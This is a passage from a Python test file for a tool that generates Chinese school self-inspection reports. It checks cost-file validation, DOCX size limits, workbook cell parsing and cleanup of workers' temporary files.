    ("book: {value: 30, note: 本县价}\n", "undecodable", "UTF-8"),
    ("book: {value: [1, 2]}\n", "utf-8", "单价"),
    ("book: 1234567890123456789012345\n", "utf-8", "单价"),
    ("book: {value: 30, note: [x]}\n", "utf-8", "应为文字"),
    ("- book\n", "utf-8", "键值对"),
])
def test_costs_file_is_validated(tmp_path, run, content, encoding, words):
    costs = tmp_path / "单价.yaml"
    costs.write_bytes(_encoded(content, encoding))
    out = tmp_path / "p.docx"
    output = _clean(run("plan", SAMPLE_SCHOOL, "-o", out, "--costs", costs))
    assert words in output and "单价.yaml" in output and "list" not in output
    assert not out.exists()


def test_report_docx_for_audit_is_size_checked(tmp_path, run, monkeypatch):
    import docx
    document = docx.Document()
    document.add_paragraph("在校学生540人。" * 2000)
    path = tmp_path / "报告.docx"
    document.save(path)
    monkeypatch.setattr(limits, "MAX_DOCX_UNCOMPRESSED", 20_000)
    assert "解压后超过" in _clean(run("audit", path))


def test_workbook_cell_with_yaml_text_is_read_the_12_way():
    from generator.io.workbook.cells import yaml_value
    assert yaml_value("16:21")[0] == "16:21"
    assert yaml_value("010")[0] == 10
    assert yaml_value("yes")[0] == "yes"


def test_an_empty_row_far_down_is_let_be(tmp_path, run, county_book):
    # a row height set on row 30,000 builds no cells: not refused
    data = _rewrite_member(county_book.read_bytes(), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        b"</sheetData>", b'<row r="30000" ht="20" customHeight="1"/></sheetData>'))
    county_book.write_bytes(data)
    _clean(run("check", county_book), (0, 1))
    styled = _rewrite_member(data, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        b"</sheetData>", b'<row r="40000"><c r="A40000" s="1"/></row></sheetData>'))
    county_book.write_bytes(styled)
    assert "40,000" in _clean(run("check", county_book))


def test_the_temporary_files_of_ended_workers_are_removed(tmp_path):
    # Ctrl-C during --each-school ends the workers; one ended mid-write (or killed after the grace period)
    # left its hidden temporary file (seen once in five runs on a busy machine). The parent removes the
    # temporary files of the processes it ended — only theirs.
    from generator.io.writing import remove_temps_of
    (tmp_path / ".甲小学自查报告.docx.4242.ab12cd.tmp").write_bytes(b"half")
    (tmp_path / ".乙小学自查报告.docx.4343.ef34gh.tmp").write_bytes(b"another run's")
    (tmp_path / "甲小学自查报告.docx").write_bytes(b"done")
    assert remove_temps_of(tmp_path, [4242]) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == [".乙小学自查报告.docx.4343.ef34gh.tmp", "甲小学自查报告.docx"]
